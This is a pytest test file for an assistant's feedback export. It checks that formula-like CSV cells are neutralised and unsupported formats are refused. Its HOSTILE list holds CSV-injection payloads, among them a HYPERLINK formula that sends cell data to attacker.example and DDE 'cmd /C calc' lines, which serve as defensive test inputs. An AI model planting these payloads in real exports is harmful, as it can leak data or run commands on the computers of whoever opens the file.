"""Feedback export: formula-looking CSV cells are neutralised; unknown formats are refused."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from assistant.errors import ConfigError
from assistant.feedback import FeedbackStore, csv_cell

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1, "Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def store(tmp_path: Path) -> FeedbackStore:
    return FeedbackStore(tmp_path / "data")


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("payload", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
@pytest.mark.parametrize("column", ["comment", "question", "answer"])
def test_csv_cells_that_start_like_a_formula_are_prefixed_with_a_quote(
    store: FeedbackStore, tmp_path: Path, payload: str, column: str
) -> None:
    fields = {"comment": "fine", "question": "Who chairs it?", "answer": "Nicola Beach."}
    fields[column] = payload
    store.add(-1, fields["question"], fields["answer"], [{"n": 1, "title": "=cmd"}], comment=fields["comment"])
    out = tmp_path / "fb.csv"
    assert store.export(out) == 1
    row = _csv_rows(out)[0]
    exported = row[column]
    if column == "comment":
        payload = payload.strip()  # comments are stored stripped
    assert exported == "'" + payload
    assert row["rating"] == "-1"  # numbers stay numbers
    assert row["citations"].startswith("[")


def test_ordinary_text_is_exported_unchanged(store: FeedbackStore, tmp_path: Path) -> None:
    store.add(1, "What is Safer Essex?", "A partnership [1].", [], comment="helpful, thanks = good")
    out = tmp_path / "fb.csv"
    store.export(out)
    row = _csv_rows(out)[0]
    assert (row["question"], row["answer"], row["comment"], row["rating"]) == (
        "What is Safer Essex?",
        "A partnership [1].",
        "helpful, thanks = good",
        "1",
    )


@pytest.mark.parametrize(("text", "expected"), [("=1", "'=1"), ("a=1", "a=1"), ("", ""), ("'=1", "'=1"), ("-", "'-")])
def test_csv_cell(text: str, expected: str) -> None:
    assert csv_cell(text) == expected


def test_json_exports_keep_the_text_verbatim(store: FeedbackStore, tmp_path: Path) -> None:
    store.add(-1, HOSTILE[0], "answer", [], comment=HOSTILE[1])
    store.export(tmp_path / "fb.jsonl")
    store.export(tmp_path / "fb.json")
    line = json.loads((tmp_path / "fb.jsonl").read_text(encoding="utf-8").splitlines()[0])
    array = json.loads((tmp_path / "fb.json").read_text(encoding="utf-8"))
    assert line["question"] == array[0]["question"] == HOSTILE[0]
    assert line["comment"] == HOSTILE[1]


@pytest.mark.parametrize("name", ["fb.xlsx", "fb.txt", "fb", "fb.csv.bak", "fb.JSONL.gz"])
def test_unknown_export_formats_are_refused_and_nothing_is_written(
    store: FeedbackStore, tmp_path: Path, name: str
) -> None:
    store.add(1, "q", "a", [])
    with pytest.raises(
        ConfigError, match=r"unknown export format '.*': the feedback export writes \.csv, \.jsonl or \.json"
    ):
        store.export(tmp_path / "out" / name)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("name", ["FB.CSV", "fb.Json", "fb.jsonl"])
def test_known_suffixes_in_any_case_are_accepted(store: FeedbackStore, tmp_path: Path, name: str) -> None:
    store.add(1, "q", "a", [])
    assert store.export(tmp_path / name) == 1
